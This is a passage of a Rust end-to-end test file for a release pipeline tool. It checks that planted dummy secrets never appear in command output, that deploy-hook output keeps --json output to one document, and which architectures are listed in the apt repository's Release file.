    assert_eq!(mode("usr/bin/demo-sg"), 0o2755);
    assert_eq!(mode("var/demo-drop"), 0o666);
}

/// No secret in any output (issue 12, point 7): with a passphrase, an S3
/// secret access key and the secret key file's material planted, every
/// command of a release's day, verbose, in text and `--json`, and its
/// failures (a wrong passphrase, an unreachable endpoint, a key file open to
/// others, a wrong keyring) print none of them.
#[test]
fn no_secret_reaches_any_output() {
    const PASSPHRASE: &str = "planted-passphrase-7c1e9d";
    const AWS_SECRET: &str = "planted-aws-secret-55d0e1b2";
    let server = pipe_e2e::s3::MotoServer::start();
    let p = Project::new();
    p.write("pipeline.toml", &PIPELINE)
        .write("demo.txt", "1.0.0\n");
    let mut env: Vec<(String, String)> = server.env();
    env.retain(|(k, _)| k != "AWS_SECRET_ACCESS_KEY");
    env.push(("AWS_SECRET_ACCESS_KEY".into(), AWS_SECRET.into()));
    env.push((
        "PIPE_STORE".into(),
        format!("s3://{}/store", server.bucket()),
    ));
    env.push(("PIPE_SIGNING_PASSPHRASE".into(), PASSPHRASE.into()));
    let mut printed = String::new();
    let mut run = |args: Vec<String>, extra: &[(&str, &str)], code: i32| {
        let out = std::process::Command::new(pipe_e2e::cli::pipe_bin())
            .arg("-C")
            .arg(p.path())
            .args(&args)
            .env_remove("PIPE_LOG")
            .envs(env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
            .envs(extra.iter().copied())
            .output()
            .unwrap();
        let text = format!(
            "$ pipe {}\n{}{}",
            args.join(" "),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(out.status.code(), Some(code), "{text}");
        printed.push_str(&text);
        text
    };
    let a = |args: &[&str]| -> Vec<String> { args.iter().map(|s| s.to_string()).collect() };
    run(
        a(&[
            "-vv",
            "keys",
            "generate",
            "--uid",
            "R <r@example.com>",
            "--algo",
            "ed25519",
        ]),
        &[],
        0,
    );
    let key_file = std::fs::read_to_string(p.path().join("keys/release.key")).unwrap();
    let material: Vec<String> = key_file
        .lines()
        .filter(|l| l.len() >= 40 && !l.contains(':') && !l.starts_with("-----"))
        .map(|l| l[..40].to_string())
        .collect();
    assert!(!material.is_empty(), "{key_file}");
    let build = {
        let out = run(a(&["--json", "build"]), &[], 0);
        let json = &out[out.find('{').unwrap()..];
        let doc: serde_json::Value =
            serde_json::from_str(&json[..json.rfind('}').unwrap() + 1]).unwrap();
        doc["build"].as_str().unwrap().to_string()
    };
    run(a(&["keys", "export", "--out", "ring.asc"]), &[], 0);
    let target = tempfile::tempdir().unwrap();
    let t = target.path().to_str().unwrap();
    for json in [&["-vv"][..], &["-vv", "--json"][..]] {
        let with = |args: &[&str]| -> Vec<String> {
            json.iter().chain(args).map(|s| s.to_string()).collect()
        };
        run(with(&["build"]), &[], 0);
        run(with(&["publish", &build]), &[], 0);
        run(with(&["promote", &build, "--to", "dev"]), &[], 0);
        run(with(&["refresh"]), &[], 0);
        run(with(&["history", "dev", "--keyring", "ring.asc"]), &[], 0);
        run(with(&["status"]), &[], 0);
        run(with(&["verify", &build, "--keyring", "ring.asc"]), &[], 0);
        let deploy = ["deploy", "--env", "dev", "--target", t, "--keyring"];
        run(with(&[&deploy[..], &["ring.asc"]].concat()), &[], 0);
        run(with(&["keys", "list"]), &[], 0);
        // Failures.
        run(with(&["build"]), &[("PIPE_SIGNING_PASSPHRASE", "wrong")], 2);
        run(
            with(&["publish", &build]),
            &[
                ("AWS_ENDPOINT_URL", "http://127.0.0.1:9"),
                ("AWS_MAX_ATTEMPTS", "1"),
            ],
            1,
        );
        run(with(&[&deploy[..], &["demo.txt"]].concat()), &[], 2);
    }
    std::fs::set_permissions(
        p.path().join("keys/release.key"),
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    let out = run(a(&["-vv", "build"]), &[], 2);
    assert!(out.contains("chmod 600"), "{out}");
    for secret in [PASSPHRASE, AWS_SECRET]
        .into_iter()
        .chain(material.iter().map(String::as_str))
    {
        assert!(
            !printed.contains(secret),
            "`{secret}` was printed:\n{printed}"
        );
    }
}

/// `--json` stays one document when `[deploy] after` prints (issue 12,
/// point 8): its standard output and error go to stderr; a failing
/// command's error keeps a bounded tail of what it printed.
#[test]
fn deploy_json_is_one_document_whatever_after_prints() {
    // The command is in the build's signed manifest: it fails for 1.1.0.
    let toml = format!(
        "{}\n[deploy]\nafter = \"echo to-stdout; echo to-stderr >&2; if grep -q 1.1.0 usr/share/demo/demo.txt; then yes padding | head -c 3000000; echo last-words >&2; exit 5; fi\"\n",
        *PIPELINE
    );
    let (p, _bucket, _server) = project_on(false, &toml, &[("demo.txt", "1.0.0\n")]);
    let ring = p.keyring();
    let b1 = release(&p, "1.0.0");
    p.pipe(&["promote", &b1, "--to", "dev"]).expect_code(0);
    let target = tempfile::tempdir().unwrap();
    let out = deploy(&p, target.path(), &ring, &["--json"]);
    out.expect_code(0);
    assert_eq!(out.json()["ok"], true);
    assert!(
        out.stderr.contains("to-stdout") && out.stderr.contains("to-stderr"),
        "{}",
        out.stderr
    );

    // A failure: the error names the command's last words, and stdout is
    // still one (error) document.
    let b2 = release(&p, "1.1.0");
    p.pipe(&["promote", &b2, "--to", "dev"]).expect_code(0);
    let out = deploy(&p, target.path(), &ring, &["--json"]);
    out.expect_code(1);
    let doc = out.json();
    assert_eq!(doc["ok"], false, "{doc}");
    assert!(doc.to_string().contains("last-words"), "{doc}");
    assert!(doc.to_string().len() < 100_000, "the tail is bounded");
}

/// A suite whose packages are all `Architecture: all` lists the
/// architectures its clients run: by default every one pipe builds for,
/// else `[repository] architectures` (checked, positioned).
#[test]
fn suites_of_all_packages_list_the_architectures_clients_use() {
    let (p, bucket, _server) = project_on(false, &PIPELINE, &[("demo.txt", "1.0.0\n")]);
    let b1 = release(&p, "1.0.0");
    p.pipe(&["promote", &b1, "--to", "dev"]).expect_code(0);
    let release_file = String::from_utf8(bucket.read("dists/dev/Release").unwrap()).unwrap();
    let archs = release_file
        .lines()
        .find_map(|l| l.strip_prefix("Architectures: "))
        .unwrap()
        .to_string();
    for arch in [
        "amd64", "arm64", "armhf", "i386", "ppc64el", "riscv64", "s390x",
    ] {
        assert!(archs.split(' ').any(|a| a == arch), "{arch} not in {archs}");
    }
    assert!(
        bucket
            .read("dists/dev/main/binary-arm64/Packages")
            .is_some()
    );

    let custom = PIPELINE.replace(
        "[environments.dev]",
        "[repository]\narchitectures = [\"arm64\", \"riscv64\"]\n\n[environments.dev]",
    );
    p.write("pipeline.toml", &custom);
    p.pipe(&["refresh", "--env", "dev"]).expect_code(0);
    let release_file = String::from_utf8(bucket.read("dists/dev/Release").unwrap()).unwrap();
    assert!(
        release_file.contains("Architectures: arm64 riscv64\n"),
        "{release_file}"
    );

    p.write(
        "pipeline.toml",
        &custom.replace("\"riscv64\"]", "\"m68k\"]"),
    );
    let out = p.pipe(&["validate"]);
    out.expect_code(2);
    assert!(
        out.stderr.contains("pipeline.toml:7:") && out.stderr.contains("`m68k`"),
        "{}",
        out.stderr
    );
}
